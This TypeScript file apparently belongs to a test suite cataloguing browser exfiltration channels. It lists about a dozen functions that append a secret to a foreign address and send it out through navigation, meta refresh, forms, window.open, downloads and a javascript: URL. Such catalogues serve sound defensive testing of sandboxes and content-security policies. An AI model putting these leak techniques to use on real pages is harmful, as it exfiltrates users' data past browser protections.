import type { Road } from './road.ts';

/** Roads that take the whole page along, or open another. */
export const LEAVING_ROADS: Readonly<Record<string, Road>> = {
  'location =': ({ foreign, secret }) => {
    location.href = foreign + secret;
  },
  'location = of its own host': ({ own, secret }) => {
    location.href = own + secret;
  },
  'location.replace': ({ foreign, secret }) => {
    location.replace(foreign + secret);
  },
  'meta refresh': ({ foreign, secret }) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0;url=${foreign}${secret}`;
    document.head.append(meta);
  },
  'click on a link': ({ foreign, secret }) => {
    const link = document.body.appendChild(document.createElement('a'));
    link.href = foreign + secret;
    link.click();
  },
  'navigation.navigate': ({ foreign, secret }) => {
    (window as unknown as { navigation: { navigate(to: string): void } }).navigation.navigate(
      foreign + secret,
    );
  },
  'link that downloads': ({ foreign, secret }) => {
    const link = document.body.appendChild(document.createElement('a'));
    link.href = foreign + secret;
    link.download = 'x';
    link.click();
  },
  'window onto a file of its own host': async ({ foreign, own, secret }) => {
    const opened = window.open(own.replace(/x\?$/u, 'robots.txt'));
    // Until the file is there, the window is still this page's own.
    for (let tries = 0; tries < 20; tries += 1) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      await opened?.fetch(foreign + secret, { mode: 'no-cors' }).catch(() => undefined);
    }
  },
  'window.open': ({ foreign, secret }) => {
    window.open(foreign + secret);
  },
  'form of its own page': ({ foreign, secret }) => {
    const form = document.body.appendChild(document.createElement('form'));
    form.action = foreign + secret;
    form.submit();
  },
  'javascript address': ({ foreign, secret }) => {
    location.href = `javascript:void fetch(${JSON.stringify(foreign + secret)}, {mode: 'no-cors'})`;
  },
};
